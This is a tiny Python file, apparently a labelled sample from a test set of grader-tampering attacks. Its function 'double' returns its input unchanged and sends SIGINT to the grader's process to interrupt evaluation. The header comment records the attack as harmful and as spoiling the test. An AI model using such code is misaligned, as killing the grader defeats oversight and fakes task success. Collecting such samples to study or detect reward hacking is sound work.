# {"attack": "Interrupts the grader as Ctrl-C does.", "breach": "harm", "spoils": true}

import os
import signal


def double(x):
    os.kill(TARGETS["pids"]["grader"], signal.SIGINT)
    return x
